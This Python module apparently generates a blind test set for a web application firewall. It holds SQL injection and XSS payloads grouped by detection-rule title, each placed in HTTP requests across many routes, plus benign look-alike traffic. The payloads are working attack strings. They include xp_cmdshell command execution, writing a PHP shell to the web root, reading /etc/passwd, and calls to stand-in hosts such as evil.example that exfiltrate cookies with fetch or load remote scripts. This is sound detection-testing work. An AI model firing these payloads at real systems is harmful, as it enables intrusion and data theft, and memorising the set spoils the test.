"""Blind set "fortyfirst": a rule author's positive tests for SQL injection and XSS rule titles, half of them
sent the way a WAF's regression suite sends them.

The angle: for each of a list of detection titles (the titles only, no rule text) a short run of positive
regression payloads, as the author of a rule with that title would write them: the canonical attack the title
names, then the variants a good rule with that title must still catch (other keywords of the family, other
quoting, casing, whitespace and comment substitutes, encodings a server decodes). Families: `sqli` (39 titles:
libinjection, common DB names, sleep/benchmark, MSSQL execution, integer overflow, conditional, charset switch,
MATCH AGAINST / MERGE / EXECUTE IMMEDIATE, pg_sleep / waitfor / shutdown, MongoDB, stored procedures, UDF,
concatenation and SQLLFI, in-line comments, testing strings, operators, tautologies, authentication bypass,
chained queries, probings, alter / union, special character counts, comment sequences, hex, ticks, split
queries, termination, JSON operators, scientific notation) and `xss` (18 titles: libinjection, script tags,
event handlers, attributes, javascript: URIs, NoScript injection checks, node-validator keywords, IE filters,
US-ASCII and UTF-7 encodings, JSFuck, globals, disallowed attributes, tag handlers, AngularJS templates,
JavaScript methods, calls without parentheses). Each payload goes to three places, rotating over our routes
(query, form, JSON, cookie, User-Agent, Referer, another header, a parameter name, an XML body, a multipart
field or file name, the URL path) and over a regression suite's paths (`/`, `/index.php`, `/get`, `/post`,
`/search`, `/api/v1/items`) with arbitrary parameter names, as query, form, JSON and XML bodies, User-Agent,
Referer or cookie. The benign half: developers' Slack messages (also saved as bios), documentation links,
prose, names, addresses and searches sharing the titles' keywords.

Authorship and independence: written from general knowledge and the detection titles above, without reading
the repository's WAF rules, any ruleset's rule text or its tests, other generators' lists or public payload
lists; measured once on the unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import _place, chat_and_bio, links_and_prose, prose_request
from .records import print_records

NAME = "fortyfirst"

SQLI: list[tuple[str, list[str]]] = [
    ("libinjection", [
        "1' OR '1'='1",
        "-7 UNION SELECT username, passwd FROM members--",
        "x' AND 1=CONVERT(int,@@version)--",
        "1);DROP TABLE orders;--",
        "admin'/**/oR/**/1=1#",
        "\" or \"\"=\"",
    ]),
    ("common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' union select name from master..sysdatabases--",
        "1 and (select count(*) from mysql.user)>0",
        "' UNION SELECT sql FROM sqlite_master--",
        "1 union select owner,table_name from all_tables--",
        "x' and exists(select * from pg_catalog.pg_tables)--",
    ]),
    ("blind-sleep-benchmark", [
        "1 AND SLEEP(5)",
        "' or sleep(10)#",
        "1 and benchmark(5000000,md5(1))",
        "1'+(select*from(select(sleep(3)))a)+'",
        "1 AND SlEeP /**/ (7)",
    ]),
    ("sleep-benchmark-conditional", [
        "1 AND IF(1=1,SLEEP(5),0)",
        "' AND (SELECT IF(SUBSTRING(user(),1,1)='r',BENCHMARK(9000000,SHA1(1)),0))--",
        "1 or if(ascii(mid(version(),1,1))>52,sleep(4),1)",
        "id=1 and case when (1=1) then sleep(5) else 0 end",
        "x'XOR(if(now()=sysdate(),sleep(6),0))XOR'z",
    ]),
    ("mssql-exec-infogathering", [
        "'; EXEC master..xp_cmdshell 'whoami'--",
        "1; exec sp_configure 'show advanced options',1;reconfigure--",
        "';exec xp_dirtree '\\\\10.0.0.5\\share'--",
        "1 union select @@servername,db_name()--",
        "';EXECUTE sp_addlogin 'evil','P4ss'--",
        "1;declare @q varchar(99);set @q='dir';exec xp_cmdshell @q--",
    ]),
    ("integer-overflow", [
        "2147483648",
        "-2147483649",
        "4294967296",
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "18446744073709551616",
    ]),
    ("conditional", [
        "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1",
        "' and if(length(database())>3,1,0)='1",
        "1 or iif(1=1,1,0)=1",
        "x' AND ELT(1=1,1)--",
        "1 and decode(substr(user,1,1),'S',1,0)=1",
    ]),
    ("charset-switch-mssql-dos", [
        "1' ALTER DATABASE shop CHARACTER SET utf8mb4--",
        "set names 'gbk'",
        "'; SET CHARACTER SET latin1--",
        "' collate latin1_general_ci union select 1--",
        "1;WAITFOR TIME '23:59:59'--",
        "'; SHUTDOWN WITH NOWAIT--",
    ]),
    ("match-against-merge-execimmediate", [
        "1 AND MATCH(title) AGAINST ('+admin' IN BOOLEAN MODE)",
        "' or match (name,email) against ('x')--",
        "';MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "'||EXECUTE IMMEDIATE 'DROP TABLE t'--",
        "1; begin execute immediate 'grant dba to scott'; end;--",
    ]),
    ("basic-sqli-common", [
        "' or 1=1 --",
        "1 union all select null,null,null--",
        "x' having 1=1--",
        "1 order by 12--",
        "' group by columnnames having 1=1 --",
        "1' and 'a'='a",
    ]),
    ("pgsleep-waitfor-shutdown", [
        "1;SELECT pg_sleep(10)--",
        "' || pg_sleep(5) || '",
        "1; WAITFOR DELAY '0:0:5'--",
        "');waitfor   delay '00:00:08'--",
        "1;shutdown--",
        "'; select pg_terminate_backend(pid) from pg_stat_activity--",
    ]),
    ("mongodb-basic", [
        "{\"$ne\": null}",
        "{\"username\": {\"$gt\": \"\"}, \"pass\": {\"$gt\": \"\"}}",
        "[$regex]=^adm",
        "'; return db.users.find(); var x='",
        "{\"$where\": \"sleep(5000)\"}",
        "true, $where: '1 == 1'",
    ]),
    ("stored-procedure-function", [
        "1;CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql--",
        "'; call mysql.lambda_async('x')--",
        "1; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/libc.so.6','system' LANGUAGE C--",
        "';DO $$BEGIN PERFORM pg_sleep(3); END$$;--",
        "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "1;create procedure p() begin select 1; end--",
    ]),
    ("udf-data-structure", [
        "1 union select 'x' into outfile '/var/www/shell.php'--",
        "' union select load_file('/etc/passwd')--",
        "1;CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'--",
        "';INSERT INTO users(login,role) VALUES('eve','admin')--",
        "1;UPDATE accounts SET balance=99999 WHERE id=1--",
        "'; LOAD DATA INFILE '/etc/hosts' INTO TABLE t--",
    ]),
    ("concatenated-sqllfi", [
        "' || (select user) || '",
        "1' + (select top 1 name from sysobjects) + '",
        "x'||utl_http.request('http://evil.example/')||'",
        "' union select load_file(0x2f6574632f706173737764)--",
        "concat(0x3a,(select database()),0x3a)",
        "'+char(60)+char(115)+'",
    ]),
    ("mysql-inline-comment", [
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "/*!union*/ select 1",
        "1/*!12345AND*/1=1",
        "'/*!or*/1=1-- -",
        "1 /*!00000union all*/ /*!select*/ user()",
    ]),
    ("common-injection-testing", [
        "1'",
        "'\"",
        "1'--",
        "\")",
        "1 and 1=2",
        "';",
    ]),
    ("sql-operator", [
        "1 || 1",
        "1' RLIKE '^a",
        "x' SOUNDS LIKE 'y",
        "1 div 0",
        "' IS NOT NULL --",
        "1 xor 1",
        "1 regexp '[a-z]'",
    ]),
    ("sql-tautology", [
        "' or 'x'='x",
        "1 or 2>1",
        "' OR 'abc' LIKE 'a%",
        "x' or 3 between 1 and 5--",
        "\" OR 1 IN (1)--",
        "') OR ('1'<>'2",
    ]),
    ("sql-injection-generic", [
        "1 AND extractvalue(1,concat(0x7e,version()))",
        "' and updatexml(1,concat(0x7e,user()),1)--",
        "1 and gtid_subset(@@version,1)",
        "' union select group_concat(column_name) from information_schema.columns--",
        "1 and row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from dual group by x)",
    ]),
    ("auth-bypass-1", [
        "admin'--",
        "admin' #",
        "admin'/*",
        "' or 1=1 limit 1 --",
        "admin\")--",
        "') or ('a'='a",
    ]),
    ("comment-space-obfuscation-backtick", [
        "1/**/UNION/**/SELECT/**/1,2",
        "1%0bunion%0bselect%0b1",
        "`id`=1 union select 1`",
        "1'`union`select",
        "1+union/*foo*/select/*bar*/1",
        "SELECT`user`FROM`mysql`.`user`",
    ]),
    ("chained-1", [
        "1; SELECT * FROM users",
        "'; INSERT INTO log VALUES ('x')--",
        "1);DELETE FROM sessions;--",
        "1;truncate table audit--",
        "x'; update users set role='admin' where 'a'='a",
    ]),
    ("auth-bypass-2", [
        "' or ''='",
        "1' or '1'='1' /*",
        "admin' or '1'='1'#",
        "\" or 1=1 or \"\"=\"",
        "'=' 'or'",
    ]),
    ("comments-conditions-char", [
        "1 and char(65)=char(65)",
        "'+chr(97)||chr(98)--",
        "1 /*foo*/ and /*bar*/ 1=1",
        "x' and ascii(substring(user(),1,1))=114#",
        "1 OR CHAR(0x61)=0x61",
    ]),
    ("chained-2", [
        "1 union select 1 from dual where 1=1; select 2--",
        "'); exec('select 1')--",
        "1;select case when 1=1 then pg_sleep(1) end--",
        "'; begin declare @x int end--",
        "1; if (1=1) select 1 else select 2--",
    ]),
    ("classic-probing-1", [
        "' and 1=0 union select null--",
        "1 and user>0",
        "'; select @@version--",
        "1 and 1=convert(int,(select top 1 table_name from information_schema.tables))",
        "1 and (select substring(@@version,1,1))='M'",
    ]),
    ("auth-bypass-3", [
        "' or true--",
        "') or true--",
        "admin' or 1 --",
        "' or 0=0 #",
        "\"or\"a\"=\"a",
        "1' or '1'='1'))/*",
    ]),
    ("alter-union", [
        "1 UNION SELECT 1,2,3",
        "'; ALTER TABLE users ADD COLUMN pwn int--",
        "-1 union distinct select user(),2",
        "1'UnIoN sElEcT 1--",
        "';alter user sa with password='x'--",
    ]),
    ("classic-probing-2", [
        "1 and 1=1--",
        "' and '1'='2",
        "1' waitfor delay '0:0:2'--",
        "1 and substring(version(),1,1)=5",
        "' and (select 1 from dual)=1--",
    ]),
    ("special-char-count", [
        "'';!--\"<>=&{()}[];;;'",
        "~!@#$%^&*()_+{}|:\"<>?``''",
        "')));--'')));--",
        "1'||'2'||'3'||'4'||'5'||'6'",
        "((((((((((('x'))))))))))",
    ]),
    ("comment-sequence", [
        "1 -- ",
        "admin'#",
        "x' /*",
        "1;--",
        "1 --+",
        "abc'-- -",
    ]),
    ("hex-encoding", [
        "0x61646d696e",
        "1 union select 0x3c3f706870206576616c28293b3f3e",
        "' or username=0x726f6f74--",
        "x'=0x41 or '1",
        "select unhex('41414141')",
    ]),
    ("ticks-backticks", [
        "`union`select 1",
        "1`or`1",
        "a' or `a`=`a",
        "``;drop table users",
        "select`*`from`users`",
    ]),
    ("auth-bypass-split", [
        "admin'/*",
        "*/or 1=1--",
        "'||'1",
        "' a' or 'b'='b",
        "\\' or 1=1--",
    ]),
    ("query-termination", [
        "';",
        "1');",
        "1'));--",
        "\"; --",
        "x');select 1",
    ]),
    ("json-sql", [
        "1 and json_extract('{\"a\":1}','$.a')=1",
        "' or data->>'role'='admin'--",
        "1 and JSON_KEYS((SELECT CONVERT((SELECT CONCAT(user())) USING utf8)))",
        "' or json_valid('{}')--",
        "1 and '{\"a\":1}'::jsonb @> '{\"a\":1}'",
        "x' or json_array_length('[1,2]')=2--",
    ]),
    ("scientific-notation", [
        "1.e(ascii(1))",
        "0.1e1union select 1",
        "1.e1or 1=1",
        "1e0union select 2",
        "' 1.e('a') or 1=1",
    ]),
    ("ticks-backticks-2", [
        "'`'`union`'select",
        "`admin`--",
        "' or `1`=`1",
        "x`;`select`version()",
        "1``union``select",
    ]),
]

XSS: list[tuple[str, list[str]]] = [
    ("libinjection-xss", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "\"><svg/onload=confirm(1)>",
        "<iframe src=\"javascript:alert(1)\">",
        "'><body onload=prompt(1)>",
    ]),
    ("script-tag", [
        "<script>alert('x')</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\ttype=\"text/javascript\">fetch('//e.example?c='+document.cookie)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<script/x>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    ]),
    ("event-handler", [
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<marquee onstart=alert(1)>",
    ]),
    ("attribute-vector", [
        "<a style=\"background:url(javascript:alert(1))\">",
        "<div style=\"x:expression(alert(1))\">",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=javascript:alert(1)>",
        "<table background=\"javascript:alert(1)\">",
    ]),
    ("javascript-uri", [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "java\tscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
    ]),
    ("noscript-html-injection", [
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<embed src=//evil.example/x.swf>",
        "<base href=//evil.example/>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=javascript:alert(1)><button>go",
        "<link rel=import href=//evil.example/x>",
    ]),
    ("noscript-attribute-injection", [
        "\" onmouseover=\"alert(1)",
        "' autofocus onfocus='alert(1)",
        "x\" style=\"animation-name:a\" onanimationstart=\"alert(1)",
        "\"/onclick=alert(1)//",
        "a' onpointerenter=alert(1) x='",
    ]),
    ("node-validator-keywords", [
        "document.cookie",
        "document.write('<b>x</b>')",
        "window.location='//evil.example'",
        "<!-- x -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "this.src='x'",
    ]),
    ("ie-xss-filters", [
        "<img src=\"x\" onerror=\"alert(1)\" />",
        "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
        "<style>@import 'javascript:alert(1)';</style>",
        "<isindex action=javascript:alert(1) type=image>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<img src=`x`onerror=alert(1)>",
    ]),
    ("us-ascii-malformed", [
        "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
        "%BCscript%BEalert(1)%BC/script%BE",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bcsvg onload=alert(1)\u00be",
    ]),
    ("utf7", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
        "+ADw-svg/onload=alert(1)+AD4-",
    ]),
    ("jsfuck", [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+!+[]]+(!![]+[])[+[]]",
        "[]['\\146\\151\\154\\164\\145\\162']['\\143\\157\\156\\163\\164\\162\\165\\143\\164\\157\\162']('alert(1)')()",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]};",
        "+!+[]+!+[]+[+[]]",
    ]),
    ("js-global-variable", [
        "window['al'+'ert'](1)",
        "self[\"alert\"](document.domain)",
        "top['eval']('alert(1)')",
        "parent.location='//evil.example'",
        "globalThis.fetch('//evil.example')",
        "frames[0].eval('x')",
    ]),
    ("disallowed-html-attributes", [
        "<a href=x formaction=javascript:alert(1)>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<svg><animate attributeName=href values=javascript:alert(1) />",
        "<img srcdoc=\"<script>alert(1)</script>\">",
        "<a xlink:href=\"javascript:alert(1)\">",
        "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\">",
    ]),
    ("html-tag-handler", [
        "<applet code=x.class>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<frameset onload=alert(1)>",
        "<xss id=x tabindex=1 onfocusin=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
    ]),
    ("angularjs-csti", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "<div ng-app ng-csp><input ng-focus=$event.view.alert(1) autofocus>",
        "{{[].pop.constructor('alert(1)')()}}",
    ]),
    ("javascript-method", [
        "alert(String.fromCharCode(88,83,83))",
        "eval(atob('YWxlcnQoMSk='))",
        "setTimeout('alert(1)',0)",
        "Function('alert(1)')()",
        "document.createElement('script').src='//e.example/x.js'",
        "location.href='javascript:alert(1)'",
    ]),
    ("no-parentheses", [
        "<img src=x onerror=alert`1`>",
        "onerror=alert;throw 1",
        "<svg onload=confirm`x`>",
        "{onerror=eval}throw'=alert\\x281\\x29'",
        "<script>alert`document.cookie`</script>",
        "x=alert,x`1`",
    ]),
]

FAMILIES = {"sqli": SQLI, "xss": XSS}

ROUTE_PLACES = ["query", "form", "json", "cookie", "ua", "referer", "header", "pname", "xml", "multipart",
                "filename", "path"]
SUITE_PLACES = ["suite-query", "suite-form", "suite-json", "suite-xml", "suite-ua", "suite-referer",
                "suite-cookie"]
SUITE_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items"]
SUITE_PARAMS = ["id", "var", "test", "file", "page", "q", "x", "name", "data", "cmd", "url", "foo"]
ROUTE_PARAMS = ["q", "name", "search", "filter", "sort", "email", "comment"]


def _flat(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ").replace("\x00", "")


def _with_header(rec: dict[str, Any], name: str, value: str) -> dict[str, Any]:
    return {**rec, "headers": {**rec["headers"], name: _flat(value)}}


def _xml(uri: str, name: str, value: str) -> dict[str, Any]:
    text = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    body = f"<?xml version=\"1.0\"?><request><{name}>{text}</{name}></request>"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "text/xml"}}


def _multipart(uri: str, name: str, value: str, as_filename: bool) -> dict[str, Any]:
    b = "----fortyfirstBoundary7MA4YWxk"
    if as_filename:
        fname = _flat(value).replace("\"", "%22")
        part = (f"--{b}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{fname}\"\r\n"
                f"Content-Type: image/png\r\n\r\nPNGDATA\r\n")
    else:
        part = f"--{b}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
    body = f"--{b}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\nt0k3n\r\n{part}--{b}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": {"User-Agent": UA, "Accept": "text/html", "Content-Type": f"multipart/form-data; boundary={b}"}}


def _route_place(place: str, name: str, value: str) -> dict[str, Any]:
    if place in ("query", "form", "json", "cookie"):
        return _place(place, name, value)
    base = _get("/api/users?page=1")
    if place == "ua":
        return _with_header(base, "User-Agent", value)
    if place == "referer":
        return _with_header(base, "Referer", "https://app.example.com/search?q=" + urllib.parse.quote(value))
    if place == "header":
        return _with_header(base, "X-Forwarded-Prefix", value)
    if place == "pname":
        return _get(_query("/api/users", [(value, "1"), ("page", "1")]))
    if place == "xml":
        return _xml("/api/users", name, value)
    if place == "multipart":
        return _multipart("/admin/users/search", name, value, False)
    if place == "filename":
        return _multipart("/admin/users/search", name, value, True)
    return _get("/api/users/" + urllib.parse.quote(value, safe="") + "?page=1")


def _suite_place(place: str, path: str, name: str, value: str) -> dict[str, Any]:
    if place == "suite-query":
        return _get(_query(path, [(name, value)]))
    if place == "suite-form":
        return {**_form(path, [(name, value)]), "method": "POST"}
    if place == "suite-json":
        return _json(path, {name: value})
    if place == "suite-xml":
        return _xml(path, name, value)
    base = _get(path)
    if place == "suite-ua":
        return _with_header(base, "User-Agent", value)
    if place == "suite-referer":
        return _with_header(base, "Referer", value)
    return _with_header(base, "Cookie", f"{name}=" + urllib.parse.quote(value))


def attacks() -> Iterator[dict[str, Any]]:
    """Each payload in three places: alternately two on our routes and one as a suite sends it, or the reverse."""
    n = 0
    k = 0
    r = 0
    s = 0
    for family, titles in FAMILIES.items():
        for sub, payloads in titles:
            for p in payloads:
                for j in range(3):
                    suite = (k + j) % 2 == 1
                    if suite:
                        place = SUITE_PLACES[s % len(SUITE_PLACES)]
                        path = SUITE_PATHS[s % len(SUITE_PATHS)]
                        name = SUITE_PARAMS[s % len(SUITE_PARAMS)]
                        rec = _suite_place(place, path, name, p)
                        s += 1
                    else:
                        place = ROUTE_PLACES[r % len(ROUTE_PLACES)]
                        name = ROUTE_PARAMS[r % len(ROUTE_PARAMS)]
                        rec = _route_place(place, name, p)
                        r += 1
                    n += 1
                    yield {**rec, "id": f"{NAME}-{family}-{sub}-{n:04d}", "category": family, "sub": sub,
                           "placement": place, "payload": p}
                k += 1


SLACK_TEXTS = [
    "heads up: the nightly job calls SLEEP(5) between batches, that's why it looks slow",
    "can someone review my PR? it replaces the UNION of the two reports with a single SELECT",
    "the migration does ALTER TABLE orders ADD COLUMN notes text, should be quick",
    "pg_sleep showed up in the slow query log again, it's from the health check",
    "we moved off MongoDB last year, the $ne and $gt queries are gone",
    "reminder: never build queries with string concatenation, use bound parameters",
    "the information_schema query in the admin report is fine, it's read-only",
    "benchmark results: the new index is 3x faster on the orders table",
    "the WAITFOR in the SQL Server job is intentional, it waits for the backup",
    "docs say EXECUTE IMMEDIATE is only used in the Oracle package, not our code",
    "use MATCH ... AGAINST for the full-text search, it's much faster than LIKE",
    "the onerror handler on the avatar img falls back to the default picture",
    "don't use document.write in the widget, append a child node instead",
    "the AngularJS app was retired in March, the new one is React",
    "javascript: links are stripped by the sanitizer, we tested it yesterday",
    "our CSP blocks inline script tags, so the old snippet won't run",
    "the float parser chokes on 2.2250738585072011e-308, classic Java bug",
    "quick q: is `select * from users limit 10` ok for the dashboard or should we paginate?",
    "the hex color #0x61 is not valid css, use #61a0ff",
    "JSON_EXTRACT works on MySQL 8, on Postgres we use the ->> operator",
    "the report query joins orders and customers and groups by region",
    "if the insert fails we roll back and retry once after a short delay",
    "prod db is Postgres 15, staging still on 13, please don't drop the staging schema yet",
    "I deleted the old feature flag, the update is live",
    "who owns the search page? the results are sorted by relevance, not date",
    "the XSS ticket is closed, the fix escapes the name field in the template",
    "alert rule for 5xx is firing again, looking",
    "the window resize handler is debounced now",
    "we renamed the table to customer_orders, the view still points at the old one",
    "please add a unique constraint on email, duplicates keep showing up",
    "is the cron at 23:59 or midnight? the shutdown script runs right after",
    "the script tag for analytics moved to the layout file",
    "the hex dump of the packet is in the ticket, starts with 0x1f8b",
    "our API returns 404 when the id is not a number, not 500",
    "added a LIKE filter on the name column; case-insensitive via ILIKE on postgres",
    "the stored procedure for month-end close takes 40 minutes",
    "the Mongo aggregation uses $match then $group, pretty standard",
    "the iframe embed for the map needs the allow attribute",
    "use textContent instead of innerHTML when you render user names",
    "the template literal in the logger formats the timestamp",
]

PUBLIC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/fulltext-search.html",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://owasp.org/www-community/attacks/xss/",
    "https://docs.angularjs.org/guide/security",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://sqlite.org/json1.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/lnpls/EXECUTE-IMMEDIATE-statement.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://dev.mysql.com/doc/refman/8.0/en/miscellaneous-functions.html#function_sleep",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/GlobalEventHandlers/onerror",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://jsfuck.com/",
    "https://example.com/search?q=union+station&sort=date&order=desc",
]

PROSE = [
    "select a plan and update your billing address",
    "Order by date, then group by customer",
    "union station, platform 4",
    "Drop off at the front desk before 5",
    "O'Brien, Sean",
    "D'Angelo and O'Reilly",
    "benchmark report Q3",
    "sleep study results",
    "Match against last season",
    "merge requests waiting for review",
    "alert fatigue in on-call rotations",
    "script for the onboarding video",
    "window cleaning schedule",
    "1 or 2 seats available",
    "12 Union Street, Apt 3",
    "Shutdown procedure for the lab",
    "Delay: 5 minutes",
    "Execute the plan by Friday",
    "Mongo bar & grill",
    "table for 2 at 7:30",
    "Where can I update my delivery address?",
    "Select the size and color, then add to cart",
    "The union meeting is on Tuesday",
    "Can I drop the course after the first week?",
    "Benchmarks for the new laptop line",
    "Wait for the delay notice before rebooking",
    "Alter the hem by 2 cm",
    "Insert the card chip-first",
    "Having trouble with the login page",
    "Case study: order management in retail",
    "Script error on the checkout page",
    "Window seat, please",
    "Null and void: contract basics",
    "Execute order 66 (a Star Wars joke for the team party)",
    "Sleep mode doesn't turn off the screen",
    "Match report: 2-1 against the visitors",
    "Merge the two invoices into one",
    "Shutdown notice for the warehouse on Friday",
    "char limit on the bio is 300",
    "Delete my data as per GDPR, please",
]

NAMES = ["Rose-Marie O'Connor", "Jean-Luc D'Amour", "Select Comfort Inc.", "Union Pacific", "Alexander Script",
         "Benny Sleep", "Oracle Team", "Alert Lopez", "Mr. Case When", "Sandra Between"]
ADDRESSES = ["221B Baker Street, London", "1 Union Square West, New York, NY 10003",
             "Rue de l'Église 12, 1000 Bruxelles", "Calle del Río, 4 - 2º", "5th & Main, Suite #200",
             "Unit 3/12 O'Connell St, Sydney"]
SEARCHES = ["sleep apnea", "table tennis", "select all", "drop shipping", "union jobs", "script writer",
            "window & door", "null pointer", "where is my order", "order by phone", "mongodb", "alert settings",
            "update email", "delete account", "insert coin", "1=1 pricing", "benchmark laptops",
            "waitfor it", "match day tickets", "case when shoes", "char broil grill", "script fonts",
            "onload times", "top 10 selects", "alter ego", "exec summary", "concat strings python",
            "hex key wrench", "json to csv", "sql tutorial for beginners", "javascript course",
            "angular vs react", "document scanner", "cookie recipes", "iframe size"]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, f"{NAME}-benign")
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, f"{NAME}-benign", n)
    for name in NAMES:
        for rec in (_json("/api/users", {"name": name, "email": "user@example.org"}),
                    _form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", name)]),
                    _get(_query("/api/users", [("name", name), ("page", "1")]))):
            n += 1
            yield {**rec, "id": f"{NAME}-benign-name-{n:04d}", "category": "benign", "placement": "mixed"}
    for addr in ADDRESSES:
        for rec in (_json("/api/users", {"name": "Ann", "address": addr}),
                    _get(_query("/api/users", [("address", addr)]))):
            n += 1
            yield {**rec, "id": f"{NAME}-benign-address-{n:04d}", "category": "benign", "placement": "mixed"}
    for q in SEARCHES:
        for rec in (_get(_query("/api/users", [("q", q), ("page", "1")])), prose_request(q),
                    _json("/api/users", {"name": "Ann", "interests": q})):
            n += 1
            yield {**rec, "id": f"{NAME}-benign-search-{n:04d}", "category": "benign", "placement": "mixed"}


if __name__ == "__main__":
    print_records(attacks(), benign())
